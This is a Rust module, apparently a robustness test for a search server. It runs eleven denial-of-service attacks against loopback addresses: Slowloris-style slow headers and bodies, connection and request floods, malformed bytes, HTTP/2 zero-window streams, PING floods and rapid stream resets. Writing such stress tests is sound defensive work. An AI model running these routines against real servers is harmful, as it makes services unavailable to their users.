//! Ways in which one client could make a server unavailable for all others.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::thread::{self, Scope};
use std::time::{Duration, Instant};

use super::local::connect_from;

/// The target of an attack, and its end.
#[derive(Clone, Copy)]
pub(crate) struct Aim<'a> {
    /// The server.
    pub(crate) address: SocketAddr,
    /// When to stop.
    pub(crate) until: Instant,
    /// The loopback address of the attacker, if the system lets programs choose it.
    from: Ipv4Addr,
    /// A long text to search for, percent-encoded.
    pub(crate) text: &'a str,
}

impl<'a> Aim<'a> {
    pub(crate) fn new(address: SocketAddr, until: Instant, text: &'a str) -> Aim<'a> {
        Aim { address, until, from: Ipv4Addr::LOCALHOST, text }
    }

    fn goes_on(&self) -> bool {
        Instant::now() < self.until
    }
}

/// An attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// The number of addresses that it comes from.
    addresses: u8,
    /// The number of threads that run it at each address.
    threads: usize,
    run: fn(&Aim<'_>),
}

impl Attack {
    /// Begins the attack in threads of its own.
    pub(crate) fn begin<'scope>(&self, scope: &'scope Scope<'scope, '_>, aim: Aim<'scope>) {
        for number in 1..=self.addresses {
            let aim = Aim { from: Ipv4Addr::new(127, 0, 1, number), ..aim };
            let run = self.run;
            (0..self.threads).for_each(|_| drop(scope.spawn(move || run(&aim))));
        }
    }
}

const fn from_one_address(name: &'static str, threads: usize, run: fn(&Aim<'_>)) -> Attack {
    Attack { name, addresses: 1, threads, run }
}

/// All attacks.
pub(crate) const ATTACKS: [Attack; 11] = [
    from_one_address("costly searches", 8, costly),
    Attack { name: "costly searches, 20 addresses", addresses: 20, threads: 2, run: costly },
    from_one_address("heads that never end", 4, |aim| {
        keep_open(aim, 60, b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ", b"x");
    }),
    from_one_address("bodies that never end", 4, |aim| keep_open(aim, 20, SLOW_BODY, b"q")),
    from_one_address("answers that nobody reads", 4, unread),
    from_one_address("connections that do nothing", 4, |aim| keep_open(aim, 240, b"", b"")),
    from_one_address("requests without a pause", 8, flood),
    from_one_address("what is no HTTP", 4, malformed),
    from_one_address("streams without a window", 4, windows),
    from_one_address("PING without a pause", 4, |aim| frames(aim, &frame(0x6, 0, 0, &[7; 8]))),
    from_one_address("streams that are reset at once", 4, |aim| frames(aim, &reset())),
];

const SLOW_BODY: &[u8] = b"POST /api/v1/search HTTP/1.1\r\nHost: localhost\r\n\
    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n";

/// How long to wait before the next byte or the next attempt.
const PAUSE: Duration = Duration::from_millis(100);
/// How long to wait for an answer that may never arrive.
const PATIENCE: Duration = Duration::from_secs(2);

fn connect(aim: &Aim<'_>) -> Option<TcpStream> {
    let other = || TcpStream::connect_timeout(&aim.address, PATIENCE).ok();
    let socket = connect_from(aim.from, aim.address).or_else(other)?;
    socket.set_read_timeout(Some(PATIENCE)).ok()?;
    socket.set_write_timeout(Some(PATIENCE)).ok()?;
    Some(socket)
}

/// Sends one request after the other, each as soon as the previous one is answered.
fn ask_again_and_again(aim: &Aim<'_>, request: &str) {
    while aim.goes_on() {
        let Some(mut socket) = connect(aim) else { continue };
        let mut answer = vec![0; 64 << 10];
        while aim.goes_on() && socket.write_all(request.as_bytes()).is_ok() {
            // Any part of the answer is enough to send the next request.
            if !matches!(socket.read(&mut answer), Ok(1..)) {
                break;
            }
        }
    }
}

fn costly(aim: &Aim<'_>) {
    let text = aim.text;
    let target =
        format!("/api/v1/search?limit=100&facets=source,month&collapse=1&explain=1&q={text}");
    ask_again_and_again(aim, &format!("GET {target} HTTP/1.1\r\nHost: localhost\r\n\r\n"));
}

fn flood(aim: &Aim<'_>) {
    ask_again_and_again(aim, "GET /robots.txt HTTP/1.1\r\nHost: localhost\r\n\r\n");
}

/// Opens several connections, sends the same beginning on each, and continues with a few bytes now and then.
fn keep_open(aim: &Aim<'_>, connections: usize, begin: &[u8], go_on: &[u8]) {
    let mut sockets: Vec<TcpStream> = Vec::new();
    while aim.goes_on() {
        sockets.retain_mut(|socket| go_on.is_empty() || socket.write_all(go_on).is_ok());
        while sockets.len() < connections && aim.goes_on() {
            let Some(mut socket) = connect(aim) else { break };
            if socket.write_all(begin).is_ok() {
                sockets.push(socket);
            }
        }
        thread::sleep(PAUSE);
    }
}

/// Sends many requests at once and reads no answer.
fn unread(aim: &Aim<'_>) {
    let requests = "GET /souwen.js HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(50);
    keep_open(aim, 20, requests.as_bytes(), requests.as_bytes());
}

fn malformed(aim: &Aim<'_>) {
    let mut number = 1_u64;
    while aim.goes_on() {
        let Some(mut socket) = connect(aim) else { continue };
        let bytes: Vec<u8> = (0..2_000)
            .map(|_| {
                // Steps of a linear congruential generator (Knuth's MMIX): bytes of all kinds, the same each
                // time.
                number = number
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1_442_695_040_888_963_407);
                (number >> 56) as u8
            })
            .collect();
        drop(socket.write_all(&bytes));
        drop(socket.read(&mut [0; 1024]));
    }
}

/// A frame of HTTP/2 (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The frame of a GET request (RFC 7541: fields of the static table, and literals).
fn get(stream: u32, path: &str) -> Vec<u8> {
    let literal = |name: u8, value: &str| [&[name, value.len() as u8], value.as_bytes()].concat();
    let fields = [&[0x82, 0x86], &literal(0x04, path)[..], &literal(0x01, "localhost")].concat();
    frame(0x1, 0x5, stream, &fields)
}

/// Streams that are never allowed to send, on connections that are kept alive.
fn windows(aim: &Aim<'_>) {
    let settings = frame(0x4, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let mut begin = [PREFACE, &settings].concat();
    (0..32).for_each(|i| begin.extend(get(2 * i + 1, "/souwen.js")));
    keep_open(aim, 20, &begin, &frame(0x6, 0, 0, &[7; 8]));
}

/// Streams that are opened and reset.
fn reset() -> Vec<u8> {
    (0..100)
        .flat_map(|i| [get(2 * i + 1, "/search"), frame(0x3, 0, 2 * i + 1, &[0, 0, 0, 8])].concat())
        .collect()
}

/// Sends the same frames without a pause, and reads only what has arrived.
fn frames(aim: &Aim<'_>, frames: &[u8]) {
    while aim.goes_on() {
        let Some(mut socket) = connect(aim) else { continue };
        if socket.write_all(&[PREFACE, &frame(0x4, 0, 0, &[])].concat()).is_err() {
            continue;
        }
        drop(socket.set_read_timeout(Some(Duration::from_millis(1))));
        while aim.goes_on() && socket.write_all(frames).is_ok() {
            if matches!(socket.read(&mut [0; 4096]), Ok(0)) {
                break;
            }
        }
    }
}
